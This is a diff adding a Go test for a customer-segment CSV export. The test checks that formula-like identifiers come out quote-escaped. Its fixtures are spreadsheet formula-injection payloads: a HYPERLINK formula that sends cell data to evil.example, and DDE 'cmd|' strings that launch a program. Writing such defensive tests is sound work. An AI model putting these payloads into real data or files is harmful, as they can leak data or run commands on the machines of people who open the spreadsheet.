@@ -364,3 +364,33 @@ func TestCustomerSegmentsAndExplain(t *testing.T) {
 		}
 	})
 }
+
+// TestSegmentExportFormulas downloads the console's export of customers
+// whose identifiers are formulas: each such cell arrives as text (a
+// leading quote), an E.164 phone as it is.
+func TestSegmentExportFormulas(t *testing.T) {
+	e := newEnv(t, storetest.OpenSQLite(t))
+	const (
+		userID = `=HYPERLINK("https://evil.example/?"&A2,"open")`
+		email  = `=cmd|'/ccalc'!a0@evil.example`
+		phone  = "+491701234567"
+	)
+	e.ingest(e.acme.ID, []map[string]any{
+		{"type": "identify", "messageId": "evil-1", "userId": userID, "traits": map[string]any{"email": email, "phone": phone, "plan": "evil"}},
+		{"type": "identify", "messageId": "evil-2", "userId": "-2+3+cmd|'/ccalc'!A0", "traits": map[string]any{"plan": "evil"}},
+	})
+	c := e.client()
+	csrf := c.login("owner@example.com")
+	id := segmentID(t, c.post("/ui/segments", csrf, url.Values{"name": {"Evil"}, "text": {`plan = "evil"`}}))
+	p := c.do("GET", "/ui/segments/"+strconv.FormatInt(id, 10)+"/export.csv?hashed=1", nil)
+	rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
+	if err != nil || len(rows) != 3 {
+		t.Fatalf("export: %v, %d rows: %s", err, len(rows), p.body)
+	}
+	if got := rows[1][1:4]; got[0] != "'"+userID || got[1] != "'"+email || got[2] != phone {
+		t.Errorf("user_id, email, phone = %q, want %q", got, []string{"'" + userID, "'" + email, phone})
+	}
+	if got := rows[2][1]; got != "'-2+3+cmd|'/ccalc'!A0" {
+		t.Errorf("user_id %q, want it behind a quote", got)
+	}
+}
